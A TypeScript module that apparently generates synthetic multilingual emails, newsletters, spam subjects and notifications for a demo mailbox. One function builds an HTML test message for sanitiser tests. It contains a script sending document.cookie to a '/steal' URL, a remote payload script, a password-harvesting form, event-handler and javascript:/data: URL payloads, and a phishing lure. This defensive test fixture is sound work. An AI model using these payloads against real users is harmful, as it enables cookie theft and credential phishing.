import type { Rng } from "./random";

/**
 * Message text. Enough variety that a demo mailbox reads like mail, in several languages, with
 * replies quoting the message they answer.
 */

export type Lang = "en" | "de" | "fr" | "zh" | "pl" | "is";

export interface Topic {
  subject: string;
  lang: Lang;
}

export const INTERNAL_TOPICS: readonly Topic[] = [
  { subject: "Q4 budget review", lang: "en" },
  { subject: "Phoenix release plan – final dates", lang: "en" },
  { subject: "Offsite in Lisbon 🎉 agenda", lang: "en" },
  { subject: "Hiring: senior engineer shortlist", lang: "en" },
  { subject: "Updated travel policy", lang: "en" },
  { subject: "Board deck draft v3", lang: "en" },
  { subject: "Laptop refresh for the sales team", lang: "en" },
  { subject: "Customer escalation: ticket 48213", lang: "en" },
  { subject: "Weekly sync notes", lang: "en" },
  { subject: "Security awareness training reminder", lang: "en" },
  { subject: "Überarbeitung der Preisliste 2027", lang: "de" },
  { subject: "Urlaubsplanung Dezember", lang: "de" },
  { subject: "Réunion d'équipe – compte rendu", lang: "fr" },
  { subject: "Budget prévisionnel : dernières corrections", lang: "fr" },
  { subject: "项目进度更新（第四季度）", lang: "zh" },
  { subject: "Spotkanie zespołu – podsumowanie", lang: "pl" },
  { subject: "Fundargerð – ársfjórðungsuppgjör", lang: "is" },
];

export const EXTERNAL_TOPICS: readonly Topic[] = [
  { subject: "Quote request: 250 units", lang: "en" },
  { subject: "Contract renewal 2027", lang: "en" },
  { subject: "Invoice INV-2026-0412", lang: "en" },
  { subject: "Purchase order PO-88317", lang: "en" },
  { subject: "Meeting follow-up and next steps", lang: "en" },
  { subject: "Delivery delay – revised schedule", lang: "en" },
  { subject: "Angebot für die Wartung – Müller & Söhne", lang: "de" },
  { subject: "Rückfrage zur Rechnung Nr. 2026-117", lang: "de" },
  { subject: "Proposition commerciale – révision", lang: "fr" },
  { subject: "关于合同续签的问题", lang: "zh" },
  { subject: "Zamówienie nr 5521 – potwierdzenie", lang: "pl" },
];

const GREETING: Record<Lang, (name: string) => string> = {
  en: (n) => `Hi ${n},`,
  de: (n) => `Hallo ${n},`,
  fr: (n) => `Bonjour ${n},`,
  zh: (n) => `${n}，你好！`,
  pl: (n) => `Cześć ${n},`,
  is: (n) => `Sæl/l ${n},`,
};

const CLOSING: Record<Lang, readonly string[]> = {
  en: ["Thanks,", "Best regards,", "Cheers,", "Kind regards,"],
  de: ["Viele Grüße", "Beste Grüße", "Danke und Grüße"],
  fr: ["Bien cordialement,", "Merci et bonne journée,"],
  zh: ["谢谢！", "此致"],
  pl: ["Pozdrawiam,", "Dziękuję,"],
  is: ["Kveðja,", "Bestu kveðjur,"],
};

const SENTENCES: Record<Lang, readonly string[]> = {
  en: [
    "I went through the numbers again and the totals now match the forecast.",
    "Could you take a look before Thursday?",
    "Attached is the latest version with your comments included.",
    "Let's discuss the open points in our next call.",
    "The customer confirmed they want to go ahead with option B.",
    "I'm out of office on Friday, so please reach out to Hannah in the meantime.",
    "We still need sign-off from legal on section 4.2.",
    "The timeline is tight but doable if we start next week.",
    "Please make sure the figures in the appendix are up to date.",
    "Good news: the pilot went well and the feedback was very positive.",
    "Can we move the review to 3 pm?",
    "I've added the action items to the shared tracker.",
  ],
  de: [
    "Anbei die überarbeitete Version mit deinen Anmerkungen.",
    "Kannst du bitte bis Donnerstag drüberschauen?",
    "Die Zahlen für das dritte Quartal sind jetzt vollständig.",
    "Wir sollten die offenen Punkte im nächsten Jour fixe klären.",
    "Der Kunde hat die Bestellung gestern bestätigt.",
    "Für Rückfragen bin ich ab Montag wieder erreichbar.",
  ],
  fr: [
    "Vous trouverez ci-joint la version mise à jour.",
    "Pourriez-vous relire le document avant jeudi ?",
    "Le client a confirmé sa commande ce matin.",
    "Nous devons encore valider le budget avec la direction financière.",
    "Je reste à votre disposition pour toute question.",
  ],
  zh: [
    "附件是最新版本，请查收。",
    "请在周四之前确认一下。",
    "客户已经确认了订单。",
    "我们下周开会讨论剩下的问题。",
    "如有任何问题，请随时联系我。",
  ],
  pl: [
    "W załączniku przesyłam zaktualizowaną wersję.",
    "Czy możesz to przejrzeć do czwartku?",
    "Klient potwierdził zamówienie.",
    "Omówimy otwarte kwestie na następnym spotkaniu.",
  ],
  is: [
    "Í viðhengi er uppfærð útgáfa.",
    "Geturðu farið yfir þetta fyrir fimmtudag?",
    "Viðskiptavinurinn staðfesti pöntunina í morgun.",
    "Við ræðum opin atriði á næsta fundi.",
  ],
};

export interface Signature {
  name: string;
  title?: string;
  company: string;
  phone: string;
}

export function textBody(
  rng: Rng,
  lang: Lang,
  recipientFirstName: string,
  signature: Signature,
  quote?: { header: string; text: string },
): string {
  const lines = [GREETING[lang](recipientFirstName), ""];
  const sentences = rng.sample(SENTENCES[lang], rng.int(2, 4));
  lines.push(sentences.join(" "));
  if (rng.chance(0.4)) lines.push("", rng.pick(SENTENCES[lang]));
  lines.push("", rng.pick(CLOSING[lang]), signature.name);
  if (signature.title) lines.push(`${signature.title} | ${signature.company}`);
  else lines.push(signature.company);
  lines.push(signature.phone);
  if (quote) {
    lines.push(
      "",
      "________________________________",
      quote.header,
      "",
      ...quote.text.split(/\r?\n/).map((l) => `> ${l}`),
    );
  }
  return `${lines.join("\r\n")}\r\n`;
}

function escapeHtml(text: string): string {
  return text.replace(/[<>&"]/g, (c) => ({ "<": "&lt;", ">": "&gt;", "&": "&amp;", '"': "&quot;" })[c]!);
}

/** Outlook-style HTML for a text body, optionally with an inline logo in the signature. */
export function htmlFromText(text: string, logoCid?: string): string {
  const [main, ...quoted] = text.split("\r\n________________________________\r\n");
  const paragraphs = (main ?? "")
    .trimEnd()
    .split("\r\n")
    .map((line) =>
      line ? `<p class="MsoNormal">${escapeHtml(line)}</p>` : '<p class="MsoNormal">&nbsp;</p>',
    );
  const logo = logoCid
    ? `<p class="MsoNormal"><img width="120" height="40" style="width:1.25in;height:.4166in" src="cid:${logoCid}" alt="Contoso"></p>`
    : "";
  const quote = quoted.length
    ? `<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"><p class="MsoNormal">${escapeHtml(
        quoted.join("\r\n"),
      ).replace(/\r\n/g, "<br>")}</p></div>`
    : "";
  return [
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
    '<style>p.MsoNormal{margin:0in;font-size:11.0pt;font-family:"Calibri",sans-serif;}</style>',
    '</head><body lang="EN-US" link="#0563C1"><div class="WordSection1">',
    ...paragraphs,
    logo,
    quote,
    "</div></body></html>",
  ].join("\r\n");
}

/** A marketing mail: table layout, remote images, a tracking pixel and tracked links. */
export function newsletterHtml(
  senderName: string,
  domain: string,
  trackingId: string,
  issue: number,
): string {
  const track = (target: string) =>
    `https://t.${domain}/c/${trackingId}?u=${encodeURIComponent(`https://www.${domain}/${target}`)}`;
  const items = ["Product update", "Customer story", "Webinar: what's next", "Événements à venir"]
    .map(
      (title, i) =>
        `<tr><td style="padding:12px"><img src="https://cdn.${domain}/nl/${issue}/item${i + 1}.jpg" width="160" alt=""></td>` +
        `<td style="padding:12px;font-family:Arial"><h3>${escapeHtml(title)}</h3><p>Read the full article on our blog.</p>` +
        `<a href="${track(`blog/${issue}/${i + 1}`)}" style="color:#fff;background:#0078d4;padding:8px 14px">Read more</a></td></tr>`,
    )
    .join("\n");
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>${escapeHtml(senderName)} #${issue}</title></head>
<body style="margin:0;background:#f3f3f3">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td colspan="2"><a href="${track("home")}"><img src="https://cdn.${domain}/nl/${issue}/hero.jpg" width="600" height="220" alt="${escapeHtml(senderName)}"></a></td></tr>
${items}
<tr><td colspan="2" style="font-size:11px;color:#777;padding:16px">You receive this because you subscribed.
<a href="https://www.${domain}/unsubscribe?id=${trackingId}">Unsubscribe</a> · <a href="${track("preferences")}">Preferences</a></td></tr>
</table>
<img src="https://t.${domain}/open/${trackingId}.gif" width="1" height="1" alt="" style="display:none">
</body></html>`;
}

export function newsletterText(
  senderName: string,
  domain: string,
  trackingId: string,
  issue: number,
): string {
  return [
    `${senderName} – issue ${issue}`,
    "",
    "Product update, a customer story and upcoming events.",
    `Read online: https://www.${domain}/issues/${issue}`,
    "",
    `Unsubscribe: https://www.${domain}/unsubscribe?id=${trackingId}`,
    "",
  ].join("\r\n");
}

/**
 * Everything an HTML sanitiser must neutralise, in one message: scripts, event handlers, forms,
 * frames, javascript: and data: URLs, remote images and CSS, meta refresh, base href, SVG handlers.
 * The portal's sanitiser tests render this message.
 */
export function sanitizerTestHtml(domain: string): string {
  return `<!DOCTYPE html>
<html><head>
<meta http-equiv="refresh" content="5;url=https://login.${domain}/verify">
<base href="https://login.${domain}/">
<script>document.location='https://login.${domain}/steal?c='+document.cookie</script>
<script src="https://cdn.${domain}/payload.js"></script>
<style>@import url("https://cdn.${domain}/track.css"); body{background:url("https://t.${domain}/bg.gif")}</style>
<link rel="stylesheet" href="https://cdn.${domain}/style.css">
</head>
<body onload="alert('onload')">
<h2 style="color:#b00">Your mailbox is almost full</h2>
<p>Dear user, verify your account within 24 hours or it will be <b>suspended</b>.</p>
<img src="https://t.${domain}/pixel.gif?id=7731" width="1" height="1">
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('javascript-url')">Verify now</a>
<a href="https://login.${domain}/verify" onclick="steal()" target="_blank">Open secure portal</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Download statement</a>
<form action="https://login.${domain}/collect" method="post">
  <input type="email" name="email" placeholder="Email">
  <input type="password" name="password" placeholder="Password">
  <button type="submit" onmouseover="alert('hover')">Sign in</button>
</form>
<iframe src="https://login.${domain}/frame" width="400" height="200"></iframe>
<object data="https://cdn.${domain}/flash.swf"></object>
<embed src="https://cdn.${domain}/embed.swf">
<svg width="10" height="10" onload="alert('svg')"><circle r="4"/></svg>
<div style="background-image:url(javascript:alert('css'))">Styled</div>
</body></html>`;
}

export const SPAM_SUBJECTS: readonly string[] = [
  "You have won a €1,000 gift card!!!",
  "RE: Invoice overdue – immediate action required",
  "Cheap meds 💊 no prescription",
  "Ваш аккаунт будет заблокирован",
  "Exclusive crypto opportunity – 300% returns",
  "恭喜您获得大奖",
];

export const NOTIFICATIONS: readonly { subject: (n: number) => string; text: string }[] = [
  {
    subject: (n) => `Your expense report EXP-${n} was approved`,
    text: "Your expense report has been approved and will be paid with the next payroll run.",
  },
  {
    subject: (n) => `Ticket #${n} has been resolved`,
    text: "The IT service desk marked your ticket as resolved. Reply to this message to reopen it.",
  },
  {
    subject: (n) => `Reminder: timesheet for week ${1 + (n % 52)} is due`,
    text: "Please submit your timesheet by Friday 17:00.",
  },
  {
    subject: (n) => `Password expires in ${1 + (n % 14)} days`,
    text: "Your password will expire soon. Change it at https://aka.contoso-demo.com/password.",
  },
];
